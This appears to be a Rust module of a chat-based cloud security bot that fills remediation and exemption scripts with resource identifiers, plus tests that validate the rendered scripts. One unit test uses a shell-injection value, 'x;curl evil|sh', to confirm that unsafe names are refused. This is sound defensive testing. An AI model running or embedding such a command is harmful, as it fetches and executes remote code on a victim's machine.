//! remediate: concrete steps and scripts for the affected resource, filled in with its real
//! names; for vulnerability findings, the packages to upgrade; on request, how to exempt it.

use std::sync::Arc;

use secbot_chat::{Action, ActionStyle, Card, CodeBlock, Command, Fact, Intent, Section, Slots, Subject};
use time::Duration;

use super::present::{finding_item, finding_subject, portal_link, subscription_name};
use super::{Answer, Request, SkillError, query};
use crate::posture::{Finding, Recommendation, Resource, Script};

pub(crate) async fn run(req: &Request<'_>) -> Result<Answer, SkillError> {
    if let Some(Subject::Alert { id }) = req.subject {
        return super::alerts::remediate(req, id).await;
    }
    let findings = affected(req).await?;
    let Some(primary) = findings.first() else {
        return Ok(Answer::card(nothing_to_fix(req).await?));
    };
    if req.parse.exemption {
        return exemption(req, primary).await;
    }
    let rec = primary.recommendation.clone();
    let same_rec: Vec<&Finding> =
        findings.iter().filter(|f| f.recommendation.key == rec.key).take(3).collect();
    let subs = req.source.subscriptions().await?;
    let mut card = Card::titled(format!("Fix: {}", rec.name));
    card.severity = Some(primary.level());
    card.summary = Some(match same_rec.as_slice() {
        [one] => format!(
            "On {} ({}, {}). {} {}.",
            one.resource.name,
            one.resource.kind.label(),
            subscription_name(&subs, &one.resource.subscription),
            one.level().label(),
            if one.risk.is_some() { "risk" } else { "severity" }
        ),
        many => format!(
            "Scripts below are filled in for {}.",
            many.iter().map(|f| f.resource.name.as_str()).collect::<Vec<_>>().join(", ")
        ),
    });
    if let Some(effort) = rec.implementation_effort {
        card.facts.push(Fact::new("Effort", effort.to_string()));
    }
    if let Some(impact) = rec.user_impact {
        card.facts.push(Fact::new("User impact", impact.to_string()));
    }

    if rec.reports_cves() {
        let vulns = req.source.vulnerabilities(&primary.resource.id).await?;
        if !vulns.is_empty() {
            card.sections.push(Section {
                heading: format!("Vulnerabilities to patch on {}", primary.resource.name),
                lines: vulns
                    .iter()
                    .take(8)
                    .map(|v| match &v.fixed_version {
                        Some(fixed) => format!(
                            "{} ({}, CVSS {:.1}): upgrade {} to {fixed} or later",
                            v.cve,
                            v.severity.label(),
                            v.cvss,
                            v.package
                        ),
                        None => format!(
                            "{} ({}, CVSS {:.1}): no fixed version of {} yet; mitigate or replace it",
                            v.cve,
                            v.severity.label(),
                            v.cvss,
                            v.package
                        ),
                    })
                    .collect(),
                numbered: false,
            });
            if vulns.len() > 8 {
                card.notices.push(format!(
                    "{} more CVEs on {} are not listed here.",
                    vulns.len() - 8,
                    primary.resource.name
                ));
            }
        }
    }

    let mut other_tools: Vec<&str> = Vec::new();
    match &rec.remediation {
        Some(fix) => {
            card.sections.push(Section { heading: "Steps".to_owned(), lines: fix.steps.clone(), numbered: true });
            // Scripts that need a value this resource does not have (an Azure resource group on
            // an EC2 instance) are for other clouds' resources.
            let usable: Vec<&Script> = fix
                .scripts
                .iter()
                .filter(|s| !matches!(fill(&s.code, &primary.resource), Err(FillError::Missing(_))))
                .collect();
            let shown = shown_tool(&usable, req.parse.tool, primary.resource.cloud);
            if let Some(tool) = req.parse.tool
                && shown != Some(tool)
            {
                let instead = shown.map(|s| format!("; here is the {} one", tool_label(s))).unwrap_or_default();
                let res = &primary.resource;
                card.notices.push(match cloud_of_tool(tool) {
                    Some(cloud) if cloud != res.cloud => format!(
                        "{} only manages {} resources and {} is in {}{instead}.",
                        tool_label(tool),
                        cloud.label(),
                        res.name,
                        res.cloud.label()
                    ),
                    _ => match fix.unavailable.get(tool) {
                        Some(why) => format!("No {} script for this fix: {why}{instead}.", tool_label(tool)),
                        None => format!(
                            "secbot has no {} script for this recommendation yet{instead}.",
                            tool_label(tool)
                        ),
                    },
                });
            }
            for script in usable.iter().filter(|s| Some(s.tool.as_str()) == shown) {
                let mut filled = Vec::new();
                for f in &same_rec {
                    match fill(&script.code, &f.resource) {
                        Ok(code) => filled.push(if same_rec.len() > 1 { format!("{} {}\n{code}", comment(&script.language), f.resource.name) } else { code }),
                        Err(why) => card.notices.push(format!("No {} script for {}: {why}.", tool_label(&script.tool), f.resource.name)),
                    }
                }
                if !filled.is_empty() {
                    card.code.push(CodeBlock {
                        title: tool_label(&script.tool).to_owned(),
                        language: script.language.clone(),
                        code: filled.join("\n\n"),
                    });
                }
            }
            other_tools = tools_of(&usable).into_iter().filter(|t| Some(*t) != shown).collect();
        }
        None => card.sections.push(Section {
            heading: "Steps".to_owned(),
            lines: vec![
                "secbot has no scripted fix for this recommendation yet. Open it in Defender for Cloud (Recommendations, then search its name) for the vendor's remediation guidance.".to_owned(),
            ],
            numbered: false,
        }),
    }
    if let Some(effect) = &rec.fix_effect {
        card.sections.push(Section {
            heading: "Before you change it".to_owned(),
            lines: vec![effect.clone()],
            numbered: false,
        });
    }
    let text = req.prompt.text.to_lowercase();
    if text.contains(" pr") || text.contains("pull request") {
        card.notices.push(
            "secbot can't open pull requests; the infrastructure-as-code change above is ready to commit."
                .to_owned(),
        );
    }
    for other in findings.iter().filter(|f| f.recommendation.key != rec.key).take(3) {
        let mut item = finding_item(req, other, &subs, false).await?;
        item.actions =
            vec![Action::run("Remediate", req.response_id, Intent::Remediate, Some(finding_subject(other)))];
        card.items.push(item);
    }
    let subject = finding_subject(primary);
    card.actions = vec![
        Action::run("Explain", req.response_id, Intent::Explain, Some(subject.clone())),
        Action::run("Assign", req.response_id, Intent::Delegate, Some(subject.clone()))
            .styled(ActionStyle::Primary),
        Action::ask("Exempt instead", req.response_id, "exempt this"),
    ];
    // The same fix in each other language, one button each: one script at a time keeps the
    // card short enough to read in a channel.
    card.actions.extend(other_tools.into_iter().map(|tool| {
        Action::new(
            tool_label(tool),
            req.response_id,
            Command::Run {
                intent: Intent::Remediate,
                subject: Some(subject.clone()),
                slots: Slots { tool: Some(tool.to_owned()), ..Slots::default() },
                offset: 0,
            },
        )
    }));
    card.links.extend(portal_link(req, &subject));
    Ok(Answer::card(card).about(Some(subject)))
}

/// The findings to fix, most risky first: the subject's, or those the slots describe.
async fn affected(req: &Request<'_>) -> Result<Vec<Finding>, SkillError> {
    let filter = match req.subject {
        Some(Subject::Finding { recommendation, resource }) => {
            return Ok(req.source.finding(recommendation, resource).await?.into_iter().collect());
        }
        Some(subject) if let Some(filter) = query::subject_filter(subject, req.scope) => filter,
        _ => {
            let query = query::build(req, &req.parse.slots).await?;
            if query.unknown.is_some() {
                return Ok(Vec::new());
            }
            query.filter
        }
    };
    Ok(req.source.findings(&filter, 0, 6).await?.items)
}

async fn nothing_to_fix(req: &Request<'_>) -> Result<Card, SkillError> {
    let mut card = Card::titled("Nothing to fix there");
    let rec = match &req.parse.recommendation_key {
        Some(key) => req.source.recommendation(key).await?,
        None => None,
    };
    card.summary = Some(match (&rec, &req.parse.slots.recommendation) {
        (Some(rec), _) => format!("No resource this channel can see fails \"{}\" right now.", rec.name),
        (None, Some(name)) => format!(
            "I couldn't find a recommendation named \"{name}\" in this tenant. Check the name in Defender for Cloud, or ask for a list of risks and pick one."
        ),
        (None, None) => "I couldn't find an open finding matching that. Ask for a list of risks, then ask how to fix one of them.".to_owned(),
    });
    if let Some(rec) = rec
        && let Some(fix) = &rec.remediation
    {
        card.sections.push(Section {
            heading: "How it is fixed".to_owned(),
            lines: fix.steps.clone(),
            numbered: true,
        });
    }
    card.actions = super::help::starters(req.response_id, 2);
    Ok(card)
}

async fn exemption(req: &Request<'_>, f: &Finding) -> Result<Answer, SkillError> {
    let rec: &Arc<Recommendation> = &f.recommendation;
    let res: &Arc<Resource> = &f.resource;
    let mut card = Card::titled(format!("Exempt {} from: {}", res.name, rec.name));
    card.summary = Some(
        "An exemption stops Defender for Cloud from counting this finding against your secure score. Use it when the risk is accepted or mitigated another way, and give it an end date."
            .to_owned(),
    );
    card.sections.push(Section {
        heading: "Steps".to_owned(),
        lines: vec![
            "In Defender for Cloud, open Recommendations and search for the recommendation's name.".to_owned(),
            format!("Select {} in the affected resources and choose Exempt.", res.name),
            "Pick Waiver (risk accepted) or Mitigated (handled by another control), set an expiry date and write down why.".to_owned(),
            "Creating exemptions needs the Owner, Security Admin or Resource Policy Contributor role on the scope.".to_owned(),
        ],
        numbered: true,
    });
    let expires = req.today + Duration::days(90);
    if res.cloud == secbot_chat::Cloud::Azure && safe(&res.id) && safe(&res.subscription) {
        card.code.push(CodeBlock {
            title: "Azure CLI".to_owned(),
            language: "bash".to_owned(),
            code: format!(
                "# Usage: bash exempt.sh <policyDefinitionReferenceId>\n# List the reference ids of the Defender for Cloud default initiative with:\n#   az policy set-definition show --ids \"$(az policy assignment show --name SecurityCenterBuiltIn --scope /subscriptions/{} --query policyDefinitionId -o tsv)\" --query \"policyDefinitions[].policyDefinitionReferenceId\" -o tsv\nREFERENCE_ID=\"${{1:?pass the policyDefinitionReferenceId of this recommendation}}\"\naz policy exemption create \\\n  --name \"secbot-waiver-{}\" \\\n  --policy-assignment \"/subscriptions/{}/providers/Microsoft.Authorization/policyAssignments/SecurityCenterBuiltIn\" \\\n  --policy-definition-reference-ids \"$REFERENCE_ID\" \\\n  --exemption-category Waiver \\\n  --expires-on \"{}T00:00:00Z\" \\\n  --scope \"{}\" \\\n  --description \"Risk accepted; review before expiry.\"",
                res.subscription,
                &rec.key[..8.min(rec.key.len())],
                res.subscription,
                expires,
                res.id
            ),
        });
    }
    card.notices.push("secbot doesn't create exemptions itself: they change what your security team sees, so a person should make them.".to_owned());
    let subject = finding_subject(f);
    card.actions = vec![
        Action::run("Fix it instead", req.response_id, Intent::Remediate, Some(subject.clone()))
            .styled(ActionStyle::Primary),
        Action::run("Assign", req.response_id, Intent::Delegate, Some(subject.clone())),
    ];
    Ok(Answer::card(card).about(Some(subject)))
}

/// The script language to show: the one asked for when there is a script in it, else the
/// cloud's own CLI, else the first there is.
fn shown_tool(scripts: &[&Script], asked: Option<&str>, cloud: secbot_chat::Cloud) -> Option<&'static str> {
    let tools = tools_of(scripts);
    let usual = match cloud {
        secbot_chat::Cloud::Azure => "azure_cli",
        secbot_chat::Cloud::Aws => "aws_cli",
        secbot_chat::Cloud::Gcp => "gcloud",
    };
    [asked, Some(usual)]
        .into_iter()
        .flatten()
        .find_map(|wanted| tools.iter().find(|t| **t == wanted).copied())
        .or(tools.first().copied())
}

/// The languages a recommendation has scripts in, in the catalog's order, each once.
fn tools_of(scripts: &[&Script]) -> Vec<&'static str> {
    let mut tools: Vec<&'static str> = Vec::new();
    for script in scripts {
        if let Some(tool) = crate::intent::TOOLS.iter().find(|t| **t == script.tool)
            && !tools.contains(tool)
        {
            tools.push(tool);
        }
    }
    tools
}

/// The one cloud a script language works with, for the languages tied to one.
fn cloud_of_tool(tool: &str) -> Option<secbot_chat::Cloud> {
    match tool {
        "azure_cli" | "bicep" => Some(secbot_chat::Cloud::Azure),
        "aws_cli" => Some(secbot_chat::Cloud::Aws),
        "gcloud" => Some(secbot_chat::Cloud::Gcp),
        _ => None,
    }
}

fn tool_label(tool: &str) -> &str {
    match tool {
        "azure_cli" => "Azure CLI",
        "powershell" => "PowerShell",
        "bicep" => "Bicep",
        "terraform" => "Terraform",
        "aws_cli" => "AWS CLI",
        "gcloud" => "gcloud",
        other => other,
    }
}

fn comment(language: &str) -> &'static str {
    match language {
        "bicep" | "hcl" | "terraform" => "//",
        _ => "#",
    }
}

/// True for values that can be pasted into a script unquoted: names and ids only.
fn safe(value: &str) -> bool {
    !value.is_empty() && value.chars().all(|c| c.is_ascii_alphanumeric() || "-_.:/()".contains(c))
}

/// The variables a script template can use (`{{name}}`; `{{repository?}}` when optional).
pub(crate) const VARIABLES: [&str; 15] = [
    "name",
    "resource_group",
    "subscription",
    "account",
    "project",
    "location",
    "region",
    "resource_id",
    "native_id",
    "instance_id",
    "zone",
    "registry",
    "registry_id",
    "repository",
    "tag",
];

/// Why a script could not be filled in for a resource.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
enum FillError {
    /// The script needs a value the resource does not have: it is for another kind of resource.
    #[error("the resource has no {}", .0.replace('_', " "))]
    Missing(String),
    /// A value holds characters that could change what the script does.
    #[error("its {} contains characters that are not safe in a script", .0.replace('_', " "))]
    Unsafe(String),
    /// The template itself is broken.
    #[error("the script template is malformed")]
    Malformed,
}

/// Fills a script's template variables from the resource. Refuses values that are not plain
/// names (cloud data could carry shell syntax) and variables the resource has no value for;
/// `{{var?}}` is optional and fills in empty when the resource has no such value.
fn fill(template: &str, resource: &Resource) -> Result<String, FillError> {
    let ids = ResourceIds::of(resource);
    let mut out = String::with_capacity(template.len());
    let mut rest = template;
    while let Some(start) = rest.find("{{") {
        out.push_str(&rest[..start]);
        let end = rest[start..].find("}}").map(|e| e + start).ok_or(FillError::Malformed)?;
        let var = &rest[start + 2..end];
        let (var, optional) = match var.strip_suffix('?') {
            Some(var) => (var, true),
            None => (var, false),
        };
        if !VARIABLES.contains(&var) {
            return Err(FillError::Malformed);
        }
        match ids.value(var) {
            Some(v) if !safe(&v) => return Err(FillError::Unsafe(var.to_owned())),
            Some(v) => out.push_str(&v),
            None if optional => {}
            None => return Err(FillError::Missing(var.to_owned())),
        }
        rest = &rest[end + 2..];
    }
    out.push_str(rest);
    Ok(out)
}

/// The identifiers a script can address a resource by, read from the resource and its id: the
/// cloud's own CLIs want ids (an EC2 instance id, a BigQuery dataset id, a registry name), never
/// the display name a person sees.
struct ResourceIds<'a> {
    resource: &'a Resource,
}

impl<'a> ResourceIds<'a> {
    fn of(resource: &'a Resource) -> ResourceIds<'a> {
        ResourceIds { resource }
    }

    fn value(&self, var: &str) -> Option<String> {
        let r = self.resource;
        Some(match var {
            "name" => r.name.clone(),
            "resource_group" => r.resource_group.clone()?,
            "subscription" | "account" | "project" => r.subscription.clone(),
            "location" | "region" => r.region.clone(),
            "resource_id" => r.id.clone(),
            "native_id" => self.native_id().to_owned(),
            "instance_id" => Some(self.native_id()).filter(|id| id.starts_with("i-"))?.to_owned(),
            "zone" => self.segment_after("zones")?.to_owned(),
            "registry" => self.segment_after("registries")?.to_owned(),
            "registry_id" => {
                let name = self.segment_after("registries")?;
                let at = r.id.to_ascii_lowercase().find("/registries/")? + "/registries/".len() + name.len();
                r.id[..at].to_owned()
            }
            "repository" => self.image()?.0.to_owned(),
            "tag" => self.image()?.1.to_owned(),
            _ => return None,
        })
    }

    /// The identifier the cloud's own API takes: an Azure resource's name, the last part of an
    /// ARN (`i-0abc…` of `…:instance/i-0abc…`, the bucket of `arn:aws:s3:::bucket`) or of a GCP
    /// resource name (`bq_customer_360` of `…/datasets/bq_customer_360`).
    fn native_id(&self) -> &'a str {
        let r = self.resource;
        match r.cloud {
            secbot_chat::Cloud::Azure => &r.name,
            _ => r.id.rsplit(['/', ':']).next().filter(|s| !s.is_empty()).unwrap_or(&r.name),
        }
    }

    /// The path segment after `key` in the resource id (`registries` → the registry's name).
    fn segment_after(&self, key: &str) -> Option<&'a str> {
        crate::posture::arm_id::segment_after(&self.resource.id, key)
    }

    /// The repository and tag of a container image (`…/images/checkout-api:1.14.2`).
    fn image(&self) -> Option<(&'a str, &'a str)> {
        let id = &self.resource.id;
        let at = id.to_ascii_lowercase().find("/images/")? + "/images/".len();
        let image = &id[at..];
        match image.rsplit_once(':') {
            Some((repository, tag)) if !repository.is_empty() && !tag.contains('/') => {
                Some((repository, tag))
            }
            _ => Some((image, "latest")).filter(|_| !image.is_empty()),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use secbot_chat::{Cloud, ResourceKind};

    fn resource(name: &str) -> Resource {
        Resource {
            id: format!(
                "/subscriptions/s1/resourceGroups/rg-web/providers/Microsoft.Storage/storageAccounts/{name}"
            ),
            name: name.to_owned(),
            kind: ResourceKind::StorageAccount,
            resource_type: "Microsoft.Storage/storageAccounts".into(),
            subscription: "s1".into(),
            resource_group: Some("rg-web".into()),
            region: "eastus".into(),
            cloud: Cloud::Azure,
            tags: vec![],
            internet_exposed: false,
            sensitive_data: None,
        }
    }

    #[test]
    fn scripts_are_filled_with_the_resource_values() {
        let code = fill(
            "az storage account update --name {{name}} --resource-group {{resource_group}}",
            &resource("stlogsprod"),
        )
        .unwrap();
        assert_eq!(code, "az storage account update --name stlogsprod --resource-group rg-web");
    }

    #[test]
    fn scripts_can_name_the_ids_the_clouds_take() {
        let mut ec2 = resource("ec2-web-01");
        ec2.cloud = Cloud::Aws;
        ec2.id = "arn:aws:ec2:us-east-1:491827365012:instance/i-06352f6acba5b3106".into();
        assert_eq!(
            fill("{{instance_id}} {{native_id}}", &ec2).unwrap(),
            "i-06352f6acba5b3106 i-06352f6acba5b3106"
        );
        assert_eq!(
            fill("{{instance_id}}", &resource("stlogs")),
            Err(FillError::Missing("instance_id".into()))
        );

        let mut dataset = resource("bq-customer-360");
        dataset.cloud = Cloud::Gcp;
        dataset.id = "//bigquery.googleapis.com/projects/p1/datasets/bq_customer_360".into();
        assert_eq!(fill("{{native_id}}", &dataset).unwrap(), "bq_customer_360");
        dataset.id = "//compute.googleapis.com/projects/p1/zones/us-central1-a/instances/gce-1".into();
        assert_eq!(fill("{{zone}}", &dataset).unwrap(), "us-central1-a");

        let mut image = resource("checkout-api:1.14.2");
        image.id = "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.ContainerRegistry/registries/acrprod/images/checkout-api:1.14.2".into();
        assert_eq!(
            fill("{{registry}} {{repository}} {{tag}} {{registry_id}}", &image).unwrap(),
            "acrprod checkout-api 1.14.2 /subscriptions/s1/resourceGroups/rg/providers/Microsoft.ContainerRegistry/registries/acrprod"
        );
        let mut registry = image;
        registry.id =
            "/subscriptions/s1/resourceGroups/rg/providers/Microsoft.ContainerRegistry/registries/acrprod"
                .into();
        assert_eq!(fill("[{{repository?}}] {{registry}}", &registry).unwrap(), "[] acrprod");
        assert_eq!(fill("{{repository}}", &registry), Err(FillError::Missing("repository".into())));
        assert_eq!(
            fill("{{password}}", &registry),
            Err(FillError::Malformed),
            "unknown variables are not filled"
        );
    }

    #[test]
    fn cloud_data_that_could_inject_shell_is_never_filled_in() {
        let err = fill("az storage account update --name {{name}}", &resource("x;curl evil|sh")).unwrap_err();
        assert!(err.to_string().contains("not safe"), "{err}");
        let mut aws = resource("bucket");
        aws.resource_group = None;
        assert_eq!(
            fill("--resource-group {{resource_group}}", &aws).unwrap_err().to_string(),
            "the resource has no resource group"
        );
    }
}

/// Every script of every open finding of the demo tenant, and of every other recommendation of
/// the catalog on a resource of its kind, filled in as a card shows it, checked for the mistakes
/// a reviewer found (display names where the cloud wants ids, silenced errors), by parsers for
/// Bicep and PowerShell, and by the real tools when they are installed: shellcheck for shell, an
/// HCL parser for Terraform, the Azure and AWS CLIs. CI installs them and sets
/// `SECBOT_REQUIRE_TOOLS=1`.
#[cfg(test)]
mod rendered {
    use std::collections::HashSet;
    use std::path::{Path, PathBuf};
    use std::process::Command as Process;

    use time::macros::date;

    use secbot_chat::{Cloud, ResourceKind};

    use super::{FillError, fill};
    use crate::catalog::Catalog;
    use crate::demo::{self, DemoOptions};
    use crate::posture::{Recommendation, Resource, Status};

    struct Rendered {
        what: String,
        language: String,
        code: String,
    }

    fn rendered() -> Vec<Rendered> {
        let data = demo::tenant(&DemoOptions::for_day(date!(2026 - 11 - 25)));
        let mut seen = HashSet::new();
        let mut out = Vec::new();
        let mut shown: HashSet<&str> = HashSet::new();
        for f in data.findings.iter().filter(|f| f.status == Status::Unhealthy) {
            let rec = &data.recommendations[f.recommendation as usize];
            let res = &data.resources[f.resource as usize];
            shown.insert(rec.key.as_str());
            if rec.remediation.is_none() {
                continue;
            }
            let usable = render(rec, res, &res.name, &mut seen, &mut out);
            assert!(usable > 0, "{} on {} ({:?}): no script fits it", rec.name, res.name, res.cloud);
        }
        for rec in Catalog::embedded().recommendations().iter().filter(|r| !shown.contains(r.key.as_str())) {
            let res = example_resource(rec);
            render(rec, &res, &format!("an example {:?}", rec.kind), &mut seen, &mut out);
        }
        out
    }

    /// Fills each of a recommendation's scripts for a resource and keeps those not seen yet;
    /// returns how many fit the resource (scripts for another cloud's resources do not).
    fn render(
        rec: &Recommendation,
        res: &Resource,
        on: &str,
        seen: &mut HashSet<String>,
        out: &mut Vec<Rendered>,
    ) -> usize {
        let Some(fix) = &rec.remediation else { return 0 };
        let mut usable = 0;
        for script in &fix.scripts {
            let code = match fill(&script.code, res) {
                Ok(code) => code,
                Err(FillError::Missing(_)) => continue,
                Err(why) => panic!("{} on {on}: {} script: {why}", rec.name, script.tool),
            };
            usable += 1;
            if seen.insert(code.clone()) {
                out.push(Rendered {
                    what: format!("{} on {on} ({})", rec.name, script.tool),
                    language: script.language.clone(),
                    code,
                });
            }
        }
        usable
    }

    /// A resource of the kind a catalog recommendation is about, with every identifier filled in.
    fn example_resource(rec: &Recommendation) -> Resource {
        let subscription = "00000000-0000-0000-0000-000000000000";
        let arm_type = rec.arm_types.first().map_or("Microsoft.Resources/resources", String::as_str);
        let (id, resource_group) = match rec.cloud {
            Cloud::Aws => {
                ("arn:aws:ec2:us-east-1:123456789012:instance/i-0123456789abcdef0".to_owned(), None)
            }
            Cloud::Gcp => (
                format!(
                    "//compute.googleapis.com/projects/{subscription}/zones/us-central1-a/instances/example-name"
                ),
                None,
            ),
            Cloud::Azure if rec.kind == ResourceKind::Subscription => {
                (format!("/subscriptions/{subscription}"), None)
            }
            Cloud::Azure => (
                format!(
                    "/subscriptions/{subscription}/resourceGroups/rg-example/providers/{arm_type}/example-name"
                ),
                Some("rg-example".to_owned()),
            ),
        };
        Resource {
            id,
            name: "example-name".to_owned(),
            kind: rec.kind,
            resource_type: arm_type.to_owned(),
            subscription: subscription.to_owned(),
            resource_group,
            region: "eastus".to_owned(),
            cloud: rec.cloud,
            tags: Vec::new(),
            internet_exposed: false,
            sensitive_data: None,
        }
    }

    /// Every Bicep and PowerShell script parses without a syntax error (tree-sitter's grammars
    /// for both; neither language's own tools come from a registry this project installs from).
    #[test]
    fn every_bicep_and_powershell_script_parses() {
        let all = rendered();
        let mut checked = (0, 0);
        let mut failures = Vec::new();
        for r in &all {
            let language: tree_sitter::Language = match r.language.as_str() {
                "bicep" => tree_sitter_bicep::LANGUAGE.into(),
                "powershell" => tree_sitter_powershell::LANGUAGE.into(),
                _ => continue,
            };
            if r.language == "bicep" {
                checked.0 += 1;
            } else {
                checked.1 += 1;
            }
            let mut parser = tree_sitter::Parser::new();
            parser.set_language(&language).expect("the grammar loads");
            let tree = parser.parse(&r.code, None).expect("a parse tree");
            if r.language == "powershell"
                && let Some(line) = r.code.lines().find(|l| scope_by_mistake(l))
            {
                failures.push(format!("{}: `$name:` in a string reads as a scope or drive: {line}", r.what));
            }
            if let Some(line) = first_error(tree.root_node()) {
                failures.push(format!(
                    "{}: line {}: {}",
                    r.what,
                    line + 1,
                    r.code.lines().nth(line).unwrap_or_default()
                ));
            }
        }
        eprintln!("parsed {} Bicep and {} PowerShell scripts", checked.0, checked.1);
        assert!(checked.0 >= 30 && checked.1 >= 100, "{checked:?}");
        assert!(failures.is_empty(), "scripts that do not parse:\n{}", failures.join("\n"));
    }

    /// True when a double-quoted PowerShell string holds `$name:` followed by no name
    /// (`"$osType: …"`), which PowerShell rejects as a scope or drive without a variable; the
    /// grammar accepts it, so it is checked here.
    fn scope_by_mistake(line: &str) -> bool {
        line.split('"').skip(1).step_by(2).any(|quoted| {
            quoted.match_indices('$').any(|(at, _)| {
                let rest = &quoted[at + 1..];
                let name =
                    rest.find(|c: char| !(c.is_ascii_alphanumeric() || c == '_')).unwrap_or(rest.len());
                let scoped = ["env", "global", "script", "local", "using", "private"];
                name > 0
                    && rest[name..].starts_with(':')
                    && !rest[name + 1..].starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
                    && !scoped.contains(&rest[..name].to_ascii_lowercase().as_str())
            })
        })
    }

    #[test]
    fn a_variable_followed_by_a_colon_in_a_string_is_caught() {
        assert!(scope_by_mistake(r#"throw "{{name}} runs $osType: Windows only""#));
        assert!(!scope_by_mistake(r#"throw "runs $($osType): Windows only""#));
        assert!(!scope_by_mistake(r#"Write-Host "path $env:PATH""#));
        assert!(!scope_by_mistake(r#"$a = $b: not in a string"#));
    }

    /// The line of the first syntax error under a node, if any.
    fn first_error(node: tree_sitter::Node) -> Option<usize> {
        if node.is_error() || node.is_missing() {
            return Some(node.start_position().row);
        }
        if !node.has_error() {
            return None;
        }
        let mut cursor = node.walk();
        node.children(&mut cursor).find_map(first_error)
    }

    #[test]
    fn every_script_addresses_resources_by_the_ids_the_clouds_take() {
        let all = rendered();
        assert!(all.len() > 300, "{} scripts", all.len());
        for r in &all {
            assert!(!r.code.contains("{{"), "{}: unfilled variable\n{}", r.what, r.code);
            let aws: String = r.code.lines().filter(|l| l.contains("aws ")).collect::<Vec<_>>().join("\n");
            for quoted in aws.split("--instance-ids \"").skip(1) {
                let value = quoted.split('"').next().unwrap_or_default();
                let id = match value.strip_prefix('$') {
                    Some(var) => r.code.split(&format!("{var}=\"")).nth(1).unwrap_or_default(),
                    None => value,
                };
                assert!(id.starts_with("i-"), "{}: EC2 instances are addressed by id\n{}", r.what, r.code);
            }
            for line in r.code.lines().filter(|l| l.contains("az acr build")) {
                assert!(
                    !line.contains(":1.") && line.contains("--registry \"$REGISTRY\""),
                    "{}: {line}",
                    r.what
                );
            }
            assert!(
                !r.code.contains(">/dev/null 2>&1 &&") && !r.code.contains("2>&1 >/dev/null"),
                "{}: a failing command must not be silenced\n{}",
                r.what,
                r.code
            );
        }
    }

    fn required() -> bool {
        std::env::var("SECBOT_REQUIRE_TOOLS").is_ok_and(|v| v == "1")
    }

    fn shellcheck_missing() -> bool {
        let found = Process::new("shellcheck").arg("--version").output().is_ok_and(|o| o.status.success());
        if !found {
            assert!(!required(), "shellcheck is required: apt-get install shellcheck");
            eprintln!("skipped: shellcheck is not installed (apt-get install shellcheck)");
        }
        !found
    }

    fn write_all(dir: &Path, scripts: &[&Rendered], extension: &str) -> Vec<PathBuf> {
        std::fs::create_dir_all(dir).unwrap();
        scripts
            .iter()
            .enumerate()
            .map(|(i, r)| {
                let path = dir.join(format!("{i:04}.{extension}"));
                std::fs::write(&path, format!("# {}\n{}\n", r.what, r.code)).unwrap();
                path
            })
            .collect()
    }

    fn scratch(name: &str) -> PathBuf {
        let dir = std::env::temp_dir().join(format!("secbot-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        dir
    }

    #[test]
    fn every_shell_script_passes_shellcheck() {
        if shellcheck_missing() {
            return;
        }
        let all = rendered();
        let shell: Vec<&Rendered> = all.iter().filter(|r| r.language == "bash").collect();
        let dir = scratch("shellcheck");
        let files = write_all(&dir, &shell, "sh");
        let out = Process::new("shellcheck")
            .args(["--shell=bash", "--severity=warning", "--format=gcc"])
            .args(&files)
            .output()
            .unwrap();
        let report = String::from_utf8_lossy(&out.stdout).into_owned();
        let _ = std::fs::remove_dir_all(&dir);
        eprintln!("shellcheck: {} shell scripts", shell.len());
        assert!(out.status.success() && report.is_empty(), "shellcheck found problems:\n{report}");
    }

    /// The checkers in `skills/tests/tools`.
    fn tool(name: &str) -> PathBuf {
        Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/tools").join(name)
    }

    fn python_has(module: &str, path: Option<&str>, install: &str) -> bool {
        let mut probe = Process::new("python3");
        probe.args(["-c", &format!("import {module}")]);
        if let Some(path) = path {
            probe.env("PYTHONPATH", path);
        }
        let found = probe.output().is_ok_and(|o| o.status.success());
        if !found {
            assert!(!required(), "{module} is required: {install}");
            eprintln!("skipped: {module} is not installed ({install})");
        }
        found
    }

    /// Runs a checker from `skills/tests/tools` (with `args` before the files) over `scripts`
    /// written to files, with `PYTHONPATH` when given; returns whether they passed and what it
    /// printed.
    fn check_with(
        checker: &[&str],
        scripts: &[&Rendered],
        extension: &str,
        pythonpath: Option<&str>,
    ) -> (bool, String) {
        let dir = scratch(&checker.join("-"));
        let files = write_all(&dir, scripts, extension);
        let mut run = Process::new(if checker[0].ends_with(".py") { "python3" } else { "bash" });
        run.arg(tool(checker[0])).args(&checker[1..]).args(&files);
        if let Some(path) = pythonpath {
            run.env("PYTHONPATH", path);
        }
        let out = run.output().unwrap();
        let _ = std::fs::remove_dir_all(&dir);
        let report =
            format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
        eprint!("{report}");
        (out.status.success(), report)
    }

    #[test]
    fn every_terraform_snippet_parses() {
        if !python_has("hcl2", None, "python3 -m pip install python-hcl2==7.2.1") {
            return;
        }
        let all = rendered();
        let terraform: Vec<&Rendered> = all.iter().filter(|r| r.language == "hcl").collect();
        assert!(!terraform.is_empty());
        let (passed, report) = check_with(&["hcl_parse.py"], &terraform, "tf", None);
        assert!(passed, "Terraform that does not parse:\n{report}");
    }

    /// Every Azure CLI call of every Azure CLI script, parsed by the Azure CLI itself with no
    /// account signed in: a call it does not accept fails in its parser.
    /// `SECBOT_AZURE_CLI_PATH` points at an azure-cli installed with `pip install --target`.
    #[test]
    fn every_azure_cli_call_parses_in_the_azure_cli() {
        let path = std::env::var("SECBOT_AZURE_CLI_PATH").ok();
        let install = "python3 -m pip install --target DIR azure-cli==2.67.0, SECBOT_AZURE_CLI_PATH=DIR";
        if !python_has("azure.cli.core", path.as_deref(), install) {
            return;
        }
        let all = rendered();
        let az: Vec<&Rendered> = all
            .iter()
            .filter(|r| r.language == "bash" && r.code.lines().any(|l| l.contains("az ")))
            .collect();
        assert!(az.len() >= 300, "{} Azure CLI scripts", az.len());
        let (passed, report) = check_with(&["cli_validate.sh", "az"], &az, "sh", path.as_deref());
        assert!(passed, "Azure CLI calls the Azure CLI rejects:\n{report}");
        let calls: usize = report
            .lines()
            .find_map(|l| {
                l.split(" distinct az calls").next().filter(|_| l.contains("distinct az calls"))?.parse().ok()
            })
            .unwrap_or(0);
        assert!(calls >= 500, "every script's calls were checked, not {calls}");
    }

